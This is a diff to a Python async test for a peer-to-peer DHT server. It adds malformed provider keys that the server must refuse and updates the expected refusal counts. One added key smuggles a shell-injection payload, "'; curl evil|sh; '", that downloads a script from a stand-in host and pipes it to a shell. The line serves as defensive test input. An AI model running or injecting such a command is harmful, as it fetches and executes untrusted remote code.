@@ -218,6 +218,10 @@ def test_an_older_or_oversized_value_and_a_foreign_provider_are_refused_and_coun
             foreign = Message(type=Message.ADD_PROVIDER, key=KEY.encode())
             add_peer_to(foreign.providerPeers, ID.from_base58(net.server.peer_id), host.addresses())
             await refused(foreign)
+            for junk in (b"/flockstep/\xff", b"/flockstep/x'; curl evil|sh; '", b"/flockstep/"):
+                no_run = Message(type=Message.ADD_PROVIDER, key=junk)
+                add_peer_to(no_run.providerPeers, ID.from_base58(host.peer_id), host.addresses())
+                await refused(no_run)
             await refused(Message(type=Message.GET_VALUE, key=bytes(200)))
             assert net.server.bootstrap_server is not None
             assert net.server.bootstrap_server.refusals.counts == {
@@ -225,6 +229,7 @@ def test_an_older_or_oversized_value_and_a_foreign_provider_are_refused_and_coun
                 ("record", "an invalid value"): 1,
                 ("directory", "a message of too many bytes"): 1,
                 ("record", "a record of another key"): 1,
+                ("record", "a provider record of no run"): 3,
                 ("record", "a provider record of another peer, or without an address"): 1,
                 ("record", "a key of no or of too many bytes"): 1,
             }
